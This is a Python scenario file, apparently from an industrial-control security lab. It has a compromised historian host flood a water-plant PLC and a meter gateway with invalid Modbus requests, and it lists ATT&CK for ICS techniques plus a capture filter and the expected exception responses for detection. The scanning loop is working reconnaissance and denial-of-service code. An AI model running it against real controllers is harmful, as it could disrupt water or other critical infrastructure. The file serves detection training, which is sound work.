"""The archive, in an attacker's hands, feels its way through the Modbus devices and is refused hundreds of times.

ATT&CK for ICS: T0861 point and tag identification, T0888 remote system information discovery, T0814 denial of service.
Attack frames: every frame of the two Modbus sessions that the archive opens beside its own. It reads registers and
coils behind the end of the map of the water controller, calls functions that no public standard defines, and asks the
gateway for units that are not there. The exception responses to the archive are the commands (the telling frames).
"""

from __future__ import annotations

import socket
import struct
from typing import TYPE_CHECKING

from lab.plant import MODBUS, address
from lab.scenario import Scenario

if TYPE_CHECKING:
    from lab.clock import Clock

PAUSE = 0.12
"""Plant seconds between two requests."""


def exchange(connection: socket.socket, transaction: int, unit: int, pdu: bytes) -> None:
    """Send one request and wait for the answer."""
    connection.sendall(struct.pack(">HHHB", transaction, 0, len(pdu) + 1, unit) + pdu)
    connection.recv(300)


def requests() -> list[bytes]:
    """Requests that a controller refuses: reads behind the end of the map, functions that do not exist."""
    reads = [struct.pack(">BHH", function, start, 10) for start in range(100, 3100, 50) for function in (3, 4, 1)]
    return reads + [bytes((function, 0, 0)) for function in range(66, 96)]


def attack(clock: Clock) -> None:
    """First the controller, then the units behind the gateway."""
    with socket.create_connection((address("plc-water"), MODBUS), timeout=2.0) as connection:
        for transaction, pdu in enumerate(requests(), 1):
            exchange(connection, transaction, 1, pdu)
            clock.sleep(PAUSE)
    with socket.create_connection((address("gw-meters"), MODBUS), timeout=2.0) as connection:
        for unit in range(4, 100):
            exchange(connection, unit, unit, struct.pack(">BHH", 4, 0, 10))
            clock.sleep(PAUSE)


SCENARIO = Scenario(
    name="exception-storm",
    title="The archive is refused hundreds of times",
    length=150.0,
    techniques=("T0861", "T0888", "T0814"),
    attacker="historian",
    victims=("plc-water", "gw-meters"),
    begin=60.0,
    behind=2820,
    commands=f"ip.dst == {address('historian')} && modbus.exception_code",
    attack=attack,
    seen="""\
- `10.21.30.33` (historian) opens a second session to `10.21.10.11`, then one to `10.21.10.14`.
- Exceptions 2 (illegal data address) for registers and coils from 100 on, 1 (illegal function) for functions 66 to 95,
  11 (gateway target device failed to respond) from the gateway for units 4 to 99. In normal operation there is not a single exception.""",
)
